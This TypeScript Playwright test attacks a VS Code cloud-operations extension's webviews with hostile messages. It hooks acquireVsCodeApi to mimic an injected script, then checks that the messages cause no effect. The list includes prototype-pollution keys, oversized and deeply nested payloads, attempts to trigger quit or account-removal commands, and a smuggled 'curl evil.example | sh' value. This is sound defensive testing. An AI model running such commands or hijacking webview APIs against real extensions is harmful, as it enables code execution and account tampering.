import type { Frame } from 'playwright-core';
import { setTimeout as sleep } from 'node:timers/promises';
import type { HostileLab } from './hostileLab.ts';
import type { Case } from './matrix.ts';
import { webviewThat } from './signedIn.ts';

/** Keeps the way to the extension, as a script that got into a webview would. */
const STEAL_API = `{
  let real;
  Object.defineProperty(globalThis, 'acquireVsCodeApi', {
    configurable: true,
    set: (value) => { real = value; },
    get: () => real && (() => (globalThis.stolen ??= real())),
  });
}`;

/** What a webview could say: a new one is a line here. Expressions, since some are no JSON. */
const MESSAGES: readonly (readonly [string, string])[] = [
  ['nothing', 'undefined'],
  ['null', 'null'],
  ['a text', `'ready'`],
  ['a number', '7'],
  ['a list', `[{ type: 'ready' }]`],
  ['no type', `{ action: 'copyOperationId' }`],
  ['unknown type', `{ type: 'eval', code: 'process.exit()' }`],
  ['prototype type', `{ type: '__proto__' }`],
  ['constructor type', `{ type: 'constructor' }`],
  ['type as a list', `{ type: ['action'], action: 'copyOperationId' }`],
  ['command of VS Code', `{ type: 'action', action: 'workbench.action.quit' }`],
  ['command of ours', `{ type: 'action', action: 'emrOperations.removeAccount' }`],
  ['action of the prototype', `{ type: 'action', action: '__proto__' }`],
  ['action of all objects', `{ type: 'action', action: 'toString' }`],
  ['action with arguments', `{ type: 'action', action: 'removeAccount', args: ['demo'] }`],
  ['open another ID', `{ type: 'open', id: 'a/cn-hangzhou/c-00000000000000aa/op-00000000000000aa' }`],
  ['open a prototype', `{ type: 'open', id: '__proto__' }`],
  ['open an object', `{ type: 'open', id: { accountId: 'a', regionId: 'cn-evil-1' } }`],
  ['copy a text of its own', `{ type: 'copy', id: 'curl evil.example | sh', text: 'owned' }`],
  ['copy a prototype', `{ type: 'copy', id: '__proto__' }`],
  ['step of another block', `{ type: 'step', label: 'Copy Policy', block: '__proto__' }`],
  ['step of no problem', `{ type: 'step', label: 'Update Credentials…' }`],
  ['range of its own', `{ type: 'range', range: '__proto__' }`],
  ['range as a number', `{ type: 'range', range: 1e308 }`],
  ['ten megabytes', `{ type: 'copy', id: 'x'.repeat(10_000_000) }`],
  [
    'a hundred thousand keys',
    `Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => ['k' + at, at]))`,
  ],
  [
    'a deep one',
    `(() => { let deep = {}; for (let at = 0; at < 5_000; at += 1) deep = { deep }; return { type: 'open', id: deep }; })()`,
  ],
  ['own prototype', `JSON.parse('{"type":"action","action":"copyLink2","__proto__":{"action":"copyLink"}}')`],
];

/** How long something that comes of a message may take; milliseconds. */
const REACTION_MS = 400;

/** A webview that was taken over says what it should not; nothing may come of it. */
export async function webviews(lab: HostileLab, onCase: (found: Case) => void): Promise<void> {
  const { workbench, probed } = lab;
  await probed.session.context.addInitScript(STEAL_API);
  await probed.probe('command', 'workbench.action.closePanel');
  // Lists are asked for by themselves while somebody sees them.
  await probed.probe('command', 'workbench.action.closeSidebar');
  const [{ regionId, clusterId } = { regionId: '', clusterId: '' }] = lab.simulator.showcase;
  const address = lab.simulator.addOperation({ regionId, clusterId, type: 'INCREASE_NODES', event: null });
  await probed.probe('watchOperation', address);
  await lab.run('openOperation', address);
  await workbench.runCommand('EMR: Show Timeline');
  for (const [where, selector] of [
    ['panel', 'main .state'],
    ['timeline', '.stage'],
  ] as const) {
    const frame = await stolen(lab, selector);
    for (const [what, message] of MESSAGES) {
      const say = (): Promise<unknown> =>
        frame.evaluate(`globalThis.stolen.postMessage(${message})`).catch(() => undefined);
      const asked = lab.simulator.requests.length;
      const before = await effects(lab);
      await say();
      await sleep(REACTION_MS);
      const after = await effects(lab);
      // What comes of a message comes each time; the end of an operation has its cluster asked for once.
      const calls = callsFrom(lab, asked);
      const again = lab.simulator.requests.length;
      if (calls.length > 0) await say();
      if (calls.length > 0) await sleep(REACTION_MS);
      const repeated = callsFrom(lab, again).filter((call) => calls.includes(call));
      const rejected = await probed.probe<readonly string[]>('rejections');
      const changed = before === after ? [] : [`${before} became ${after}`];
      const failure = [...changed, ...repeated, ...rejected].join(' | ');
      onCase({ what: `message: ${what}`, where, ...(failure === '' ? {} : { failure }) });
    }
  }
  lab.simulator.setOperation(address, { state: 'COMPLETED' });
  await workbench.openView('EMR');
  await lab.mend();
}

async function stolen(lab: HostileLab, selector: string): Promise<Frame> {
  const isStolen = `globalThis.stolen !== undefined && document.querySelector('${selector}') !== null`;
  return webviewThat(`a webview with ${selector}`, lab.workbench, (frame) =>
    frame.evaluate<boolean>(isStolen),
  );
}

/** What the cloud was asked for since then, but for what the operation in the panel is looked at by. */
function callsFrom(lab: HostileLab, from: number): readonly string[] {
  return lab.simulator.requests
    .slice(from)
    .filter(({ action }) => action !== 'GetOperation' && action !== 'LookupEvents')
    .map(({ action, parameters }) => `${action} ${JSON.stringify(parameters)}`);
}

/** What somebody would see if anything came of a message. */
async function effects(lab: HostileLab): Promise<string> {
  const { page, quickInput } = lab.workbench;
  return JSON.stringify({
    tabs: await page.locator('.part.editor .tab').count(),
    prompt: await quickInput.widget.isVisible(),
    dialogs: await page.locator('.monaco-dialog-box').count(),
    toasts: await page.locator('.notification-toast-container').count(),
    clipboard: await lab.probed.probe('clipboard'),
  });
}
